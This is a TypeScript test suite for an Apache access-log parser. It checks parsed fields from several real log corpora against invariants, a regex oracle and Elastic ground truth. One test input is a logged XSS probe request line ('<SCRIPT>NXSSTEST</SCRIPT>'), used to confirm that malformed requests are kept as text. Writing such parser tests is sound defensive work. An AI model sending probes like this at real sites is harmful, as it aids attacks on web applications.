// apache_access against every real access log in ../shared/corpora (read in place), and the real-world
// cases of the spec as unit tests. Ground truth (Elastic *-expected.json, CrowdSec parser.assert) is compared
// field by field where it exists; elsewhere every parsed line is checked against invariants and against an
// independent reading of the raw line (a regex that knows Apache's quoting), plus hand-read spot checks.
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import type { Event, FilterInstance } from '../core/index.js';
import { MetricsHub } from '../core/runtime/metrics.js';
import { buildAccessParser } from '../lib/apache/index.js';
import accessPlugin from '../plugins/filters/apache_access.js';
import {
  assertUnparsed, corpus, CORPORA, pluginContext as contextFor, readLines, runFilterLines, type FileRun, type LineEvent,
} from './support/corpora.js';
import { startPipeline, type Probes } from './support/pipeline-harness.js';


/** The fields the parser writes, as the tests read them. */
type Access = LineEvent;

interface ParserOptions {
  format?: string;
  log_format?: string | string[];
  timezone?: string;
}

// ---------------------------------------------------------------------------------------------- helpers




/** Every line through the real filter (its `process`, in batches of 1000), as a pipeline would. */
async function runLines(lines: string[], options: ParserOptions): Promise<FileRun> {
  const filter = (await accessPlugin.create({ field: 'message', format: 'combined', timezone: 'UTC', ...options }, contextFor('access', 'apache_access'))) as FilterInstance;
  return runFilterLines(filter, lines);
}

async function runFile(file: string, options: ParserOptions): Promise<FileRun> {
  return runLines(readLines(file), options);
}

const MONTHS: Record<string, string> = { Jan: '01', Feb: '02', Mar: '03', Apr: '04', May: '05', Jun: '06', Jul: '07', Aug: '08', Sep: '09', Oct: '10', Nov: '11', Dec: '12' };

/** `10/Oct/2000:13:55:36 -0700` -> epoch ms, through Date.parse (independent of the parser's code). */
function clfMs(text: string): number {
  const m = /^(\d\d)\/(\w{3})\/(\d{4}):(\d\d:\d\d:\d\d) ([+-]\d\d)(\d\d)$/.exec(text);
  assert.ok(m, `not a CLF time: ${text}`);
  return Date.parse(`${m[3]}-${MONTHS[m[2]]}-${m[1]}T${m[4]}${m[5]}:${m[6]}`);
}

/** Undo Apache's log escaping (ap_escape_logitem): \" \\ \n \r \t \b \v and \xhh bytes, decoded as UTF-8. */
function apacheUnescape(s: string): string {
  const bytes: number[] = [];
  for (let i = 0; i < s.length; i++) {
    if (s[i] === '\\' && i + 1 < s.length) {
      const hex = s.slice(i + 2, i + 4);
      if (s[i + 1] === 'x' && /^[0-9a-fA-F]{2}$/.test(hex)) {
        bytes.push(parseInt(hex, 16));
        i += 3;
        continue;
      }
      const simple: Record<string, number> = { '"': 34, '\\': 92, n: 10, r: 13, t: 9, b: 8, v: 11 };
      if (simple[s[i + 1]] !== undefined) {
        bytes.push(simple[s[i + 1]]);
        i++;
        continue;
      }
    }
    bytes.push(...Buffer.from(s[i]));
  }
  return Buffer.from(bytes).toString('utf8');
}

/** Control characters (C0, DEL, C1) and U+2028/U+2029: never raw in a parsed field. */
const RAW_CONTROL = /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/;

/** Apache's escapes undone except those of control characters, which are kept as written; a C1 character
 * decoded from UTF-8 bytes goes back to its `\xhh` bytes (what the parser does to every logged string). */
function keepControlsUnescape(s: string): string {
  // Each escape of a control character becomes a NUL (never raw in an Apache log), the rest is decoded,
  // then the NULs are put back as the escapes they were. `\\` is matched first, so `\\n` is no `\n`.
  const kept: string[] = [];
  const marked = s.replace(/\\(?:\\|"|[ntrbv]|x[0-9a-fA-F]{2})/g, (esc) => {
    const byte = esc[1] === 'x' ? parseInt(esc.slice(2), 16) : -1;
    if (!'ntrbv'.includes(esc[1]) && !(byte >= 0 && (byte < 0x20 || byte === 0x7f))) return esc;
    kept.push(esc);
    return '\u0000';
  });
  return apacheUnescape(marked)
    .replace(/\u0000/g, () => kept.shift()!)
    .replace(/[\u0080-\u009f\u2028\u2029]/g, (ch) => [...Buffer.from(ch)].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join(''));
}

/** The README's request-line rule, written as a regex: METHOD target [HTTP/version], runs of spaces between;
 * the target origin-form, absolute-form, `*` (OPTIONS) or anything for CONNECT; no control character in it,
 * raw or escaped. */
const REQUEST = /^([A-Z][A-Z_-]{0,31}) +(\S+)(?: +(HTTP\/[^\s\\\u0000-\u001f\u007f]{1,16})| *)$/;

function readRequest(raw: string): { method: string | null; url: string | null; protocol: string | null } {
  if (raw === '-') return { method: null, url: null, protocol: null };
  const r = REQUEST.exec(raw);
  if (r) {
    const target = apacheUnescape(r[2]);
    const form = r[1] === 'CONNECT' || target.startsWith('/') || (target === '*' && r[1] === 'OPTIONS') || /^[a-z][a-z0-9+.-]*:\/\//i.test(target);
    if (form && !RAW_CONTROL.test(target)) return { method: r[1], url: target, protocol: r[3] ?? null };
  }
  return { method: null, url: raw, protocol: null }; // malformed: the text as logged
}

/** An independent reading of a common/combined line: a regex over Apache's escaped quoted strings. */
const ORACLE = /^(\S+) (\S+) (\S+) \[([^\]]+)\] "((?:[^"\\]|\\.)*)" (\d{3}) (\d+|-)(?: "((?:[^"\\]|\\.)*)" "((?:[^"\\]|\\.)*)")?/;

interface OracleFields {
  client_ip: string; ident: string | null; user: string | null; timestamp: number;
  method: string | null; url: string | null; protocol: string | null; status: number; bytes: number | null;
  referer?: string | null; user_agent?: string | null;
}

function oracle(line: string): OracleFields | undefined {
  const m = ORACLE.exec(line);
  if (!m) return undefined;
  const dash = (v: string) => (v === '-' ? null : keepControlsUnescape(v));
  const { method, url, protocol } = readRequest(m[5]);
  const fields: OracleFields = {
    client_ip: m[1], ident: dash(m[2]), user: dash(m[3]), timestamp: clfMs(m[4]),
    method, url, protocol, status: Number(m[6]), bytes: m[7] === '-' ? null : Number(m[7]),
  };
  if (m[8] !== undefined) {
    fields.referer = dash(m[8]);
    fields.user_agent = dash(m[9]);
  }
  return fields;
}

/** The invariants every parsed access line satisfies. */
function assertInvariants(e: Access, range: [string, string]): void {
  const where = `line ${e.n}: ${JSON.stringify(e.message)}`;
  const ts = e.timestamp as number;
  assert.ok(Number.isFinite(ts) && ts >= Date.parse(range[0]) && ts < Date.parse(range[1]), `${where}: timestamp ${ts} outside ${range}`);
  assert.ok(Number.isInteger(e.status) && (e.status as number) >= 100 && (e.status as number) <= 599, `${where}: status ${e.status}`);
  assert.ok(e.bytes === null || (Number.isInteger(e.bytes) && (e.bytes as number) >= 0), `${where}: bytes ${e.bytes}`);
  assert.equal(typeof e.client_ip, 'string', where);
  // No field holds a raw control character (Apache escapes them; the parser keeps them escaped).
  for (const [k, v] of Object.entries(e)) if (k !== 'message' && typeof v === 'string') assert.ok(!RAW_CONTROL.test(v), `${where}: raw control character in ${k}: ${JSON.stringify(v)}`);
  // A path is a path: it starts with '/' (never `*`, an authority, `003.003\n` or a whole junk line).
  assert.ok(e.path === null || e.path === undefined || (e.path as string).startsWith('/'), `${where}: path ${JSON.stringify(e.path)}`);
  if (e.method !== null) {
    assert.match(e.method as string, /^[A-Z][A-Z_-]*$/, where);
    assert.equal(typeof e.url, 'string', `${where}: a method without url`);
    const url = e.url as string;
    assert.ok(!url.includes(' '), `${where}: a well-formed request's url has no space`);
    const q = url.indexOf('?');
    const beforeQuery = q < 0 ? url : url.slice(0, q);
    assert.equal(e.query, q < 0 ? null : url.slice(q + 1), where);
    if (e.method === 'CONNECT' || url === '*') assert.equal(e.path, null, where);
    else if (/^[a-z][a-z0-9+.-]*:\/\//i.test(url)) assert.ok((e.path as string).startsWith('/'), where);
    else assert.equal(e.path, beforeQuery, `${where}: path is url up to '?'`);
  } else {
    assert.equal(e.path, null, where);
    assert.equal(e.protocol, null, where);
    assert.equal(e.query, null, where);
  }
  assert.ok(e.protocol === null || /^HTTP\/\S+$/.test(e.protocol as string), `${where}: protocol ${e.protocol}`);
}

/** Fields of every parsed line equal the oracle's reading of the raw line. */
function assertOracle(run: FileRun, except: Record<number, (keyof OracleFields)[]> = {}): void {
  for (const [n, e] of run.parsed) {
    const o = oracle(run.lines[n - 1].replace(/\r$/, ''));
    assert.ok(o, `line ${n}: the oracle cannot read ${JSON.stringify(run.lines[n - 1])}`);
    for (const [k, v] of Object.entries(o)) {
      if (except[n]?.includes(k as keyof OracleFields)) continue;
      assert.deepEqual(e[k], v, `line ${n} ${k}: ${JSON.stringify(run.lines[n - 1])}`);
    }
  }
}

function pick(e: Access, keys: string[]): Record<string, unknown> {
  return Object.fromEntries(keys.map((k) => [k, e[k]]));
}

const iso = (ms: unknown) => new Date(ms as number).toISOString();

// ------------------------------------------------------------------------------ corpora without ground truth

describe('apache_access on real logs', function () {
  this.timeout(60000);

  /** `name` in corpus `dir`, parsed with `format`: `count` lines, all parsed, each event's invariants hold (its
   * time within `range`) and its fields are what the oracle reads in its line (but for `except`). */
  async function allParsed(ctx: Mocha.Context, dir: string, name: string, format: string, count: number, range: [string, string],
    except?: Parameters<typeof assertOracle>[1]): Promise<FileRun> {
    const run = await runFile(path.join(corpus(ctx, dir), name), { format });
    assert.equal(run.lines.length, count);
    assertUnparsed(run, {});
    for (const e of run.parsed.values()) assertInvariants(e, range);
    assertOracle(run, except);
    return run;
  }

  it('elastic-examples-apache_logs/apache_logs: 10,000 combined lines, all parsed', async function () {
    // Line 8899 is cut short inside its user agent (no closing quote, see PROVENANCE.txt). It is still an
    // Apache line: it is parsed, with the user agent up to the end of the line. The oracle regex needs the
    // closing quote: line 8899's referer and user agent are checked below.
    const run = await allParsed(this, 'elastic-examples-apache_logs', 'apache_logs', 'combined', 10000,
      ['2015-05-17T00:00:00Z', '2015-05-21T00:00:00Z'], { 8899: ['referer', 'user_agent'] });
    const all = [...run.parsed.values()];
    assert.equal(all.filter((e) => e.bytes === null).length, 669); // PROVENANCE: 669 lines with bytes '-'
    assert.deepEqual([...new Set(all.map((e) => e.method))].sort(), ['GET', 'HEAD', 'OPTIONS', 'POST']);
    assert.deepEqual(pick(run.parsed.get(1)!, ['client_ip', 'ident', 'user', 'timestamp', 'method', 'url', 'path', 'query', 'protocol', 'status', 'bytes', 'referer', 'user_agent']), {
      client_ip: '83.149.9.216', ident: null, user: null, timestamp: Date.parse('2015-05-17T10:05:03Z'),
      method: 'GET', url: '/presentations/logstash-monitorama-2013/images/kibana-search.png',
      path: '/presentations/logstash-monitorama-2013/images/kibana-search.png', query: null, protocol: 'HTTP/1.1',
      status: 200, bytes: 203023, referer: 'http://semicomplete.com/presentations/logstash-monitorama-2013/',
      user_agent: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0.1700.77 Safari/537.36',
    });
    assert.deepEqual(pick(run.parsed.get(8899)!, ['client_ip', 'timestamp', 'url', 'status', 'bytes', 'referer', 'user_agent']), {
      client_ip: '46.118.127.106', timestamp: Date.parse('2015-05-20T12:05:17Z'), url: '/scripts/grok-py-test/configlib.py',
      status: 200, bytes: 235, referer: null, user_agent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html',
    });
    assert.deepEqual(pick(run.parsed.get(8900)!, ['client_ip', 'url', 'status', 'bytes']), { client_ip: '180.76.5.152', url: '/robots.txt', status: 200, bytes: null });
    assert.deepEqual(pick(run.parsed.get(9158)!, ['method', 'url', 'status', 'bytes', 'user_agent']), {
      method: 'OPTIONS', url: '/projects/xdotool/', status: 500, bytes: 626, user_agent: 'Microsoft Office Protocol Discovery',
    });
  });

  it('logparser-hackers-access/hackers-access.log: 3,456 combined lines with IPv6 clients, all parsed', async function () {
    const run = await allParsed(this, 'logparser-hackers-access', 'hackers-access.log', 'combined', 3456, ['2015-10-01T00:00:00Z', '2015-11-01T00:00:00Z']);
    const all = [...run.parsed.values()];
    assert.deepEqual([...new Set(all.map((e) => e.method))].sort(), ['GET', 'POST']);
    // PROVENANCE says "12 IPv6 clients": they are 12 lines from 2 clients.
    const v6 = all.filter((e) => (e.client_ip as string).includes(':'));
    assert.equal(v6.length, 12);
    assert.deepEqual([...new Set(v6.map((e) => e.client_ip))].sort(), ['2001:41d0:8:f69::1', '2400:8900::f03c:91ff:fe50:5089']);
    assert.deepEqual(pick(run.parsed.get(2578)!, ['client_ip', 'timestamp', 'method', 'url', 'protocol', 'status', 'bytes', 'referer']), {
      client_ip: '2001:41d0:8:f69::1', timestamp: Date.parse('2015-10-29T05:47:37Z'), method: 'GET', url: '/join_form',
      protocol: 'HTTP/1.1', status: 200, bytes: 12191, referer: 'http://niels.basjes.nl/',
    });
  });

  it('nasa-http-aug95-subset/nasa.log: 20,000 common lines, host names, HTTP/0.9, all parsed', async function () {
    const run = await allParsed(this, 'nasa-http-aug95-subset', 'nasa.log', 'common', 20000, ['1995-08-01T04:00:00Z', '1995-08-02T04:00:00Z']);
    const all = [...run.parsed.values()];
    assert.equal(all.filter((e) => /[a-z]/i.test(e.client_ip as string)).length, 15066); // PROVENANCE: 15066 hostname clients
    assert.equal(all.filter((e) => e.bytes === null).length, 251); // PROVENANCE: 251 bytes '-'
    // PROVENANCE says 47 request lines without protocol; the file has 36 (counted on the raw text here),
    // plus 2 with the odd protocol "HTTP/V1.0".
    const noProtocol = run.lines.filter((l) => /"[A-Z]+ [^ "]*" /.test(l)).length;
    assert.equal(noProtocol, 36);
    assert.equal(all.filter((e) => e.method !== null && e.protocol === null).length, noProtocol);
    assert.equal(all.filter((e) => e.protocol === 'HTTP/V1.0').length, 2);
    assert.deepEqual(pick(run.parsed.get(1)!, ['client_ip', 'ident', 'user', 'timestamp', 'method', 'url', 'protocol', 'status', 'bytes']), {
      client_ip: 'in24.inetnebr.com', ident: null, user: null, timestamp: Date.parse('1995-08-01T04:00:01Z'), method: 'GET',
      url: '/shuttle/missions/sts-68/news/sts-68-mcc-05.txt', protocol: 'HTTP/1.0', status: 200, bytes: 1839,
    });
    const http09 = all.find((e) => e.client_ip === 'columbia.acc.brad.ac.uk' && e.url === '/ksc.html')!;
    assert.deepEqual(pick(http09, ['method', 'url', 'path', 'protocol', 'status', 'bytes', 'timestamp']), {
      method: 'GET', url: '/ksc.html', path: '/ksc.html', protocol: null, status: 200, bytes: 7280, timestamp: Date.parse('1995-08-01T04:34:55Z'),
    });
  });

  describe('raspim-raspbian-apache22 (combined, Apache 2.2, binary junk in requests)', () => {
    const files: Array<[string, number, [string, string]]> = [
      ['access.log', 25, ['2014-04-06T00:00:00Z', '2014-04-07T00:00:00Z']],
      ['access.log.1', 7319, ['2014-04-02T00:00:00Z', '2014-04-07T00:00:00Z']],
      ['access.log.2.gz', 10276, ['2014-03-26T00:00:00Z', '2014-04-03T00:00:00Z']],
    ];
    for (const [name, count, range] of files) {
      it(`${name}: ${count} lines, all parsed`, async function () {
        await allParsed(this, 'raspim-raspbian-apache22', name, 'combined', count, range);
      });
    }

    it('access.log.1: junk, escaped quotes and backslashes, "", "1", TLS, 408 and OPTIONS * lines (junk keeps its text as logged)', async function () {
      const dir = corpus(this, 'raspim-raspbian-apache22');
      const run = await runFile(path.join(dir, 'access.log.1'), { format: 'combined' });
      const req = (n: number) => pick(run.parsed.get(n)!, ['method', 'url', 'path', 'query', 'protocol', 'status', 'bytes', 'referer', 'user_agent']);
      const junk = { method: null, path: null, query: null, protocol: null, referer: null, user_agent: null };
      assert.deepEqual(req(10), { ...junk, url: '\\x16\\x03\\x01', status: 501, bytes: 290 });
      assert.deepEqual(req(312), { ...junk, url: null, status: 408, bytes: 0 });
      assert.deepEqual(req(5428), { ...junk, url: '1', status: 501, bytes: 288 });
      assert.deepEqual(req(5459), { ...junk, url: '', status: 501, bytes: 287 });
      // "\xecegD\xf5\xd8\xd5w\"\"\x1fO...\"U\xbcn~\bR": escaped quotes inside the request line, kept as logged.
      const l5305 = run.parsed.get(5305)!;
      assert.equal(l5305.status, 400);
      assert.equal(l5305.bytes, 301);
      assert.equal(l5305.url, String.raw`\xecegD\xf5\xd8\xd5w\"\"\x1fO\xec\xbd\x93>N\xe7\xe3\xdd\xc8\xd3\xb1T\xdf \xcelR\x9f\"U\xbcn~\bR`);
      assert.equal(l5305.user_agent, null);
      // Ends in an escaped backslash just before the closing quote: `T\\" 400`.
      const l5405 = run.parsed.get(5405)!;
      assert.ok((l5405.url as string).endsWith('\\x83~T\\\\'), JSON.stringify(l5405.url));
      assert.equal(l5405.status, 400);
      // OPTIONS * (Apache 2.2's internal dummy connection): the server itself, no path.
      assert.deepEqual(pick(run.parsed.get(33)!, ['client_ip', 'method', 'url', 'path', 'protocol', 'status', 'bytes', 'user_agent']), {
        client_ip: '::1', method: 'OPTIONS', url: '*', path: null, protocol: 'HTTP/1.0', status: 200, bytes: 126,
        user_agent: 'Apache/2.2.22 (Debian) (internal dummy connection)',
      });
      assert.deepEqual(pick(run.parsed.get(1411)!, ['method', 'url', 'status']), { method: 'PUT', url: '/sdk/v1/updateConf', status: 405 });
    });

    it('access.log.1 and access.log.2.gz: junk requests keep their escapes, OPTIONS * has no path, and path / counts only requests for /', async function () {
      const dir = corpus(this, 'raspim-raspbian-apache22');
      for (const [name, options, tls] of [['access.log.1', 366, 146], ['access.log.2.gz', 299, 312]] as const) {
        const run = await runFile(path.join(dir, name), { format: 'combined' });
        const all = [...run.parsed.values()];
        // Counted in the raw lines, independently of the parser.
        const requestFor = (re: RegExp) => run.lines.filter((l) => re.test(l)).length;
        const slash = requestFor(/\] "[A-Z]+ +(?:\/|https?:\/\/[^/?" ]*\/?)(?:\?[^" \\]*)? +HTTP\/1\.[01]" /);
        assert.ok(slash > 100, `${name}: ${slash} requests for /`);
        assert.equal(all.filter((e) => e.path === '/').length, slash, `${name}: path / only for requests for /`);
        assert.equal(requestFor(/\] "OPTIONS \* HTTP\/1\.0" /), options);
        const star = all.filter((e) => e.url === '*');
        assert.equal(star.length, options);
        assert.deepEqual(star.filter((e) => e.method !== 'OPTIONS' || e.path !== null || e.protocol !== 'HTTP/1.0').map((e) => e.n), [], `${name}: OPTIONS * lines`);
        const handshakes = all.filter((e) => e.url === '\\x16\\x03\\x01');
        assert.equal(handshakes.length, tls);
        assert.deepEqual(handshakes.filter((e) => e.method !== null || e.path !== null || e.protocol !== null).map((e) => e.n), [], `${name}: TLS lines`);
      }
      const run = await runFile(path.join(dir, 'access.log.1'), { format: 'combined' });
      // "m\r\xb4\b\"" and "_\xcc\tbJ": escaped CR, backspace and tab stay two characters each.
      assert.equal(run.parsed.get(5318)!.url, 'm\\r\\xb4\\b\\"');
      assert.equal(run.parsed.get(5319)!.url, '_\\xcc\\tbJ');
    });

    it('access.log.2.gz: the zone changes from +0000 to +0100 inside the file', async function () {
      const dir = corpus(this, 'raspim-raspbian-apache22');
      const run = await runFile(path.join(dir, 'access.log.2.gz'), { format: 'combined' });
      assert.equal(iso(run.parsed.get(6175)!.timestamp), '2014-03-29T19:34:25.000Z'); // [29/Mar/2014:19:34:25 +0000]
      assert.equal(iso(run.parsed.get(6176)!.timestamp), '2014-04-01T14:11:17.000Z'); // [01/Apr/2014:15:11:17 +0100]
      assert.equal(run.parsed.get(442)!.url, '');
      assert.equal(run.parsed.get(442)!.status, 501);
    });
  });

  describe('lnav-tests', () => {
    it('logfile_access_log.0 and .1: combined, all parsed (.1 is a bare "-" 400 line)', async function () {
      const dir = corpus(this, 'lnav-tests');
      const run0 = await runFile(path.join(dir, 'logfile_access_log.0'), { format: 'combined' });
      assert.equal(run0.lines.length, 3);
      assertUnparsed(run0, {});
      assertOracle(run0);
      for (const e of run0.parsed.values()) assertInvariants(e, ['2009-07-20T00:00:00Z', '2009-07-21T00:00:00Z']);
      assert.deepEqual(pick(run0.parsed.get(2)!, ['client_ip', 'url', 'protocol', 'status', 'bytes', 'user_agent']), {
        client_ip: '192.168.202.254', url: '/vmw/vSphere/default/vmkboot.gz', protocol: 'HTTP/1.0', status: 404, bytes: 46210, user_agent: 'gPXE/0.9.7',
      });
      const run1 = await runFile(path.join(dir, 'logfile_access_log.1'), { format: 'combined' });
      assertUnparsed(run1, {});
      assert.deepEqual(pick(run1.parsed.get(1)!, ['client_ip', 'timestamp', 'method', 'url', 'status', 'bytes', 'referer', 'user_agent']), {
        client_ip: '10.112.81.15', timestamp: Date.parse('2013-02-15T06:00:31Z'), method: null, url: null, status: 400, bytes: 0, referer: null, user_agent: null,
      });
    });

    it('logfile_bad_access_log.0: line 2 lacks the ident and user fields and is not parsed', async function () {
      const dir = corpus(this, 'lnav-tests');
      const run = await runFile(path.join(dir, 'logfile_bad_access_log.0'), { format: 'combined' });
      assert.equal(run.lines.length, 3);
      assertUnparsed(run, { 2: 'format_mismatch' });
      assertOracle(run);
    });

    it('logfile_regexp_access_log.0: a custom vhost:port format ending in %D, through log_format', async function () {
      const dir = corpus(this, 'lnav-tests');
      // PROVENANCE: "vhost:port ip sessionid user [time] "req" status bytes "ref" "ua" %D"; the session id
      // sits where %l (ident) is, which is how lnav reads it too.
      const run = await runFile(path.join(dir, 'logfile_regexp_access_log.0'), {
        log_format: '%v:%p %h %l %u %t \\"%r\\" %>s %b \\"%{Referer}i\\" \\"%{User-Agent}i\\" %D',
      });
      assertUnparsed(run, {});
      assert.deepEqual(run.parsed.get(2), {
        n: 2, message: run.lines[1], vhost: 'localhost', port: 443, client_ip: '154.57.4.229', ident: 'cger1e', user: 'khenry',
        timestamp: Date.parse('2023-07-26T07:02:12Z'), method: 'GET', url: '/secure/RapidBoard.jspa?rapidView=1839&view=planning.nodetail&issueLimit=100',
        path: '/secure/RapidBoard.jspa', query: 'rapidView=1839&view=planning.nodetail&issueLimit=100', protocol: 'HTTP/2.0', status: 200, bytes: 16517,
        referer: 'https://localhost/secure/RapidBoard.jspa?rapidView=1843&view=planning.nodetail&issueLimit=100', user_agent: 'Mozilla/5.0', duration_us: 156302,
      });
      assert.equal(run.parsed.get(1)!.duration_us, 116075);
    });

    it('logfile_syslog_with_access_log.0: syslog lines (two carry an access-like payload without time) are all unparsed', async function () {
      const dir = corpus(this, 'lnav-tests');
      const run = await runFile(path.join(dir, 'logfile_syslog_with_access_log.0'), { format: 'auto' });
      assert.equal(run.lines.length, 5);
      assertUnparsed(run, { 1: 'format_mismatch', 2: 'format_mismatch', 3: 'format_mismatch', 4: 'format_mismatch', 5: 'format_mismatch' });
    });

    it('logfile_shop_access_log.0: combined plus a quoted X-Forwarded-For, +0330, all parsed both ways', async function () {
      const dir = corpus(this, 'lnav-tests');
      const file = path.join(dir, 'logfile_shop_access_log.0');
      // As plain combined the trailing field is an ignored extra field.
      const plain = await runFile(file, { format: 'combined' });
      assert.equal(plain.lines.length, 1000);
      assertUnparsed(plain, {});
      assertOracle(plain);
      for (const e of plain.parsed.values()) assertInvariants(e, ['2019-01-22T00:00:00Z', '2019-01-23T00:00:00Z']);
      // With the field named in a LogFormat, it is read too.
      const xff = await runFile(file, { log_format: '%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i" "%{X-Forwarded-For}i"' });
      assertUnparsed(xff, {});
      const forwarded = [...xff.parsed.values()].map((e) => e.http_x_forwarded_for);
      assert.equal(forwarded.filter((v) => v === null).length, 987);
      assert.equal(forwarded.filter((v) => v === '103.28.132.65').length, 13);
      for (const [n, e] of xff.parsed) assert.deepEqual({ ...e, http_x_forwarded_for: undefined }, { ...plain.parsed.get(n)!, http_x_forwarded_for: undefined });
      assert.deepEqual(pick(plain.parsed.get(1)!, ['client_ip', 'timestamp', 'method', 'path', 'status', 'bytes', 'user_agent']), {
        client_ip: '54.36.149.41', timestamp: Date.parse('2019-01-22T00:26:14Z'), method: 'GET',
        path: '/filter/27|13%20%D9%85%DA%AF%D8%A7%D9%BE%DB%8C%DA%A9%D8%B3%D9%84,27|%DA%A9%D9%85%D8%AA%D8%B1%20%D8%A7%D8%B2%205%20%D9%85%DA%AF%D8%A7%D9%BE%DB%8C%DA%A9%D8%B3%D9%84,p53',
        status: 200, bytes: 30577, user_agent: 'Mozilla/5.0 (compatible; AhrefsBot/6.1; +http://ahrefs.com/robot/)',
      });
    });
  });
});

// ---------------------------------------------------------------------------------- Elastic ground truth

interface ElasticDoc {
  '@timestamp': string;
  event: { original: string };
  source: { address: string; ip?: string; domain?: string };
  user?: { name: string };
  http: { request?: { method?: string; referrer?: string }; response: { status_code: number; body?: { bytes: number } }; version?: string };
  url?: { original: string; path: string; query?: string; domain?: string };
  user_agent?: { original: string };
  destination?: { domain: string };
  network?: { forwarded_ip: string };
  client?: { ip: string };
  apache: { access: { identity?: string; remote_addresses?: string[] } };
}

/** Every ground-truth field Elastic gives, compared with ours. Representation differences, not errors:
 * Elastic keeps '-' for user.name, referrer and user agent where we give null, and percent-decodes
 * url.path where our path is the raw request path. */
function assertElastic(e: Access, doc: ElasticDoc): void {
  const where = doc.event.original;
  const dashNull = (v: string | undefined) => (v === undefined || v === '-' ? null : v);
  assert.equal(iso(e.timestamp), doc['@timestamp'], where);
  assert.equal(e.client_ip, doc.source.address, where);
  if (doc.source.ip !== undefined) assert.equal(e.client_ip, doc.source.ip, where);
  if (doc.source.domain !== undefined) assert.equal(e.client_ip, doc.source.domain, where);
  assert.equal(e.method, doc.http.request?.method ?? null, where);
  assert.equal(e.url, doc.url?.original ?? null, where);
  assert.equal(e.path === null ? null : decodeURIComponent(e.path as string), doc.url?.path ?? null, where);
  assert.equal(e.query, doc.url?.query ?? null, where);
  assert.equal(e.protocol, doc.http.version === undefined ? null : `HTTP/${doc.http.version}`, where);
  assert.equal(e.status, doc.http.response.status_code, where);
  assert.equal(e.bytes, doc.http.response.body?.bytes ?? null, where);
  assert.equal(e.user, dashNull(doc.user?.name), where);
  assert.equal(e.ident, doc.apache.access.identity ?? null, where);
  if ('referer' in e) assert.equal(e.referer, dashNull(doc.http.request?.referrer), where);
  else assert.equal(doc.http.request?.referrer, undefined, where);
  if ('user_agent' in e) assert.equal(e.user_agent, dashNull(doc.user_agent?.original), where);
  else assert.equal(doc.user_agent, undefined, where);
  if (doc.destination) assert.equal(e.vhost, doc.destination.domain, where);
  if (doc.url?.domain) assert.equal(e.vhost, doc.url.domain, where);
}

function readExpected(file: string): ElasticDoc[] {
  return (JSON.parse(readFileSync(file, 'utf8')) as { expected: ElasticDoc[] }).expected;
}

describe('apache_access against Elastic ground truth (elastic-integrations-apache-tests/access)', function () {
  this.timeout(30000);

  for (const format of ['auto', 'combined']) {
    it(`test-access-basic: every expected field, format ${format}`, async function () {
      const dir = path.join(corpus(this, 'elastic-integrations-apache-tests'), 'access');
      const docs = readExpected(path.join(dir, 'test-access-basic.log-expected.json'));
      const run = await runFile(path.join(dir, 'test-access-basic.inputs-from-expected.log'), { format });
      assert.equal(run.lines.length, docs.length);
      assertUnparsed(run, {});
      docs.forEach((doc, k) => {
        assert.equal(run.lines[k], doc.event.original);
        assertElastic(run.parsed.get(k + 1)!, doc);
      });
    });
  }

  it('test-access-basic: the X-Forwarded-For trailer, read through a log_format list, matches remote_addresses and forwarded_ip', async function () {
    const dir = path.join(corpus(this, 'elastic-integrations-apache-tests'), 'access');
    const docs = readExpected(path.join(dir, 'test-access-basic.log-expected.json'));
    const run = await runFile(path.join(dir, 'test-access-basic.inputs-from-expected.log'), {
      log_format: ['%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i" X-Forwarded-For="%{X-Forwarded-For}i"', 'combined'],
    });
    assertUnparsed(run, {});
    docs.forEach((doc, k) => {
      const e = run.parsed.get(k + 1)!;
      assertElastic(e, doc);
      const xff = (e.http_x_forwarded_for as string | null | undefined) ?? null;
      const forwarded = xff === null ? [] : xff.split(',').map((s) => s.trim());
      assert.deepEqual([...forwarded, e.client_ip], doc.apache.access.remote_addresses, doc.event.original);
      assert.equal(forwarded[0] ?? null, doc.network?.forwarded_ip ?? null, doc.event.original);
      assert.equal(forwarded[0] ?? null, doc.client?.ip ?? null, doc.event.original);
    });
  });

  it('test-access-basic.log (the newer file with extra cases): all 17 lines parse with format auto', async function () {
    const dir = path.join(corpus(this, 'elastic-integrations-apache-tests'), 'access');
    const run = await runFile(path.join(dir, 'test-access-basic.log'), { format: 'auto' });
    assert.equal(run.lines.length, 17); // the file has no final newline
    assertUnparsed(run, {});
    for (const e of run.parsed.values()) assertInvariants(e, ['2000-01-01T00:00:00Z', '2025-01-01T00:00:00Z']);
    const get = (n: number, keys: string[]) => pick(run.parsed.get(n)!, keys);
    // A combined line with a trailing quoted field: the extra field is ignored, the user agent is clean.
    assert.equal(run.parsed.get(4)!.user_agent, 'Mozilla/5.0 (Windows NT 6.1; rv:15.0) Gecko/20120716 Firefox/15.0a2');
    assert.equal(run.parsed.get(4)!.referer, null);
    assert.equal(run.parsed.get(7)!.user_agent, 'Mozilla/5.0 (Windows NT 6.1; rv:15.0) Gecko/20120716 Firefox/15.0a2');
    // `200 612 3413 "-" ...`: a field the default formats do not know; read as common plus extra fields.
    assert.deepEqual(get(11, ['client_ip', 'status', 'bytes', 'referer']), { client_ip: '2a02:cf40:add:4002:91f2:a9b2:e09a:6fc6', status: 200, bytes: 612, referer: undefined });
    // An XSS attempt as the request line: no method, the text kept in url.
    assert.deepEqual(get(14, ['client_ip', 'method', 'url', 'path', 'protocol', 'status', 'bytes', 'user_agent']), {
      client_ip: '127.0.0.1:80', method: null, url: '<SCRIPT>NXSSTEST</SCRIPT> / HTTP/1.1', path: null, protocol: null, status: 400, bytes: 3386, user_agent: null,
    });
    // vhost_combined with TLS bytes as the request.
    assert.deepEqual(get(15, ['vhost', 'port', 'client_ip', 'method', 'url', 'status', 'bytes']), {
      vhost: '127.0.1.1', port: 80, client_ip: '127.0.0.1', method: null, url: '\\x16\\x03\\x03\\x01\\x8f\\x01', status: 400, bytes: 483,
    });
    // "- - HTTP/1.0": '-' is no method.
    assert.deepEqual(get(16, ['method', 'url', 'path', 'protocol', 'status', 'timestamp']), {
      method: null, url: '- - HTTP/1.0', path: null, protocol: null, status: 400, timestamp: Date.parse('2024-06-14T06:50:12Z'),
    });
